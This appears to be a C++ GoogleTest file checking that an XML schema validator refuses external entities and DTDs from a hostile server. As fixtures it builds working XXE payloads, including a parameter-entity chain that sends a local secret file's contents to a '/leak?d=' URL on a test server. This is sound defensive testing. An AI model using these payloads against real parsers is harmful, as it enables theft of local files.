// Schemas from a hostile server: entities and DTDs are never loaded, a remote schema cannot name
// a local file, and the compiled set holds what was logged as added.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <libxml/xmlIO.h>

#include <mutex>

#include "validation/engine.h"
#include "validation/resolution.h"
#include "validation/schema_sources.h"
#include "validation/validation_fixture.h"

namespace vx {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;

// Every resource libxml2 tries to open goes past this handler first (the last one registered is
// asked first); it records the name and lets the real handlers answer.
std::vector<std::string>& OpenedUris() {
  static std::vector<std::string> uris;
  return uris;
}
int RecordUri(const char* uri) {
  OpenedUris().push_back(uri != nullptr ? uri : "");
  return 0;
}
void InstallRecorder() {
  static std::once_flag once;
  std::call_once(once, [] {
    InstallSchemaInputHandlers();
    xmlRegisterInputCallbacks(&RecordUri, nullptr, nullptr, nullptr);
  });
  OpenedUris().clear();
}

constexpr char kSecret[] = "SEKRET-7f3a9c";

class HostileSchemaTest : public test::ValidationTest {
 protected:
  HostileSchemaTest() {
    InstallRecorder();
    secretPath = (dir.path() / "secret.txt").string();
    test::WriteFile(secretPath, kSecret);
  }
  void Add(const std::string& ns, const std::string& location) { wAdd(run, Utf8ToU(ns), Utf8ToU(location)); }
  static UString Validate(const std::string& xml) { return IsXML_Valid(Utf8ToU(xml), u"", u""); }
  bool Leaked() const {
    for (const auto& t : log.Texts())
      if (t.find(kSecret) != std::string::npos) return true;
    for (const auto& r : server.Requests())
      if (r.query.find(kSecret) != std::string::npos || r.path.find(kSecret) != std::string::npos)
        return true;
    return false;
  }
  bool OpenedSecret() const {
    for (const auto& u : OpenedUris())
      if (u.find("secret.txt") != std::string::npos) return true;
    return false;
  }
  std::string WithDoctype(const std::string& subset, const std::string& body) {
    return "<?xml version=\"1.0\"?>\n<!DOCTYPE xsd:schema [" + subset +
           "]>\n<xsd:schema xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\"urn:x\">" +
           body + "</xsd:schema>";
  }

  TValidationRun run;
  std::string secretPath;
};

TEST_F(HostileSchemaTest, ExternalEntitiesAndDtdsAreNeverLoaded) {
  const std::string file = "file://" + secretPath;
  Publish("evil.dtd", "<!ENTITY secret SYSTEM \"" + file + "\">");
  // The parameter-entity route that carries a file's content to a third address.
  Publish("leak.dtd", "<!ENTITY % file SYSTEM \"" + file +
                          "\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '" + server.Url("/leak?d=") +
                          "%file;'>\">%eval;%exfil;");
  const std::string element = "<xsd:element name=\"a\" type=\"xsd:string\" fixed=\"&secret;\"/>";
  const std::vector<std::string> locations = {
      Publish("dtd.xsd",
              WithDoctype("<!ENTITY % ext SYSTEM \"" + server.Url("/evil.dtd") + "\"> %ext;", element)),
      Publish("pe.xsd", WithDoctype("<!ENTITY % ext SYSTEM \"" + server.Url("/leak.dtd") + "\"> %ext;",
                                    "<xsd:element name=\"b\"/>")),
      Publish("direct.xsd", WithDoctype("<!ENTITY secret SYSTEM \"" + file + "\">", element)),
      Publish("subset.xsd", "<?xml version=\"1.0\"?><!DOCTYPE xsd:schema SYSTEM \"" +
                                server.Url("/evil.dtd") +
                                "\"><xsd:schema xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" "
                                "targetNamespace=\"urn:x\"><xsd:element name=\"c\"/></xsd:schema>"),
      // The same, one include further down.
      Publish("outer.xsd", Schema("urn:x", "<xsd:include schemaLocation=\"direct.xsd\"/>")),
  };
  for (const std::string& location : locations) Add("urn:x", location);
  EXPECT_EQ(server.RequestCount("/evil.dtd"), 0);
  EXPECT_EQ(server.RequestCount("/leak.dtd"), 0);
  EXPECT_EQ(server.RequestCount("/leak"), 0);
  EXPECT_FALSE(OpenedSecret());
  EXPECT_FALSE(Leaked());
  // A schema that uses an entity it could not load is refused; one that merely names a DTD is not.
  std::vector<std::string> registered;
  for (const auto& r : run.registered) registered.push_back(UToUtf8(r));
  EXPECT_THAT(registered, ElementsAre(locations[1], locations[3]));

  // Through the whole validation: the result never carries the file either.
  const UString result = Validate("<x:a xmlns:x=\"urn:x\">v</x:a>");
  EXPECT_EQ(UToUtf8(result).find(kSecret), std::string::npos);
}

TEST_F(HostileSchemaTest, InternalEntitiesOfASchemaStillWork) {
  const std::string ns = server.Url("/ns/int/");
  Publish("ns/int/index.html", "<html><a href=\"./int.xsd\">x</a></html>");
  Publish("ns/int/int.xsd",
          "<?xml version=\"1.0\"?>\n<!DOCTYPE xsd:schema [<!ENTITY tns \"" + ns +
              "\">]>\n<xsd:schema xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\"&tns;\">"
              "<xsd:element name=\"a\" type=\"xsd:int\"/></xsd:schema>");
  EXPECT_EQ(Validate("<a xmlns=\"" + ns + "\">12</a>"), u"");
  EXPECT_NE(Validate("<a xmlns=\"" + ns + "\">x</a>"), u"");
}

}  // namespace
}  // namespace vx
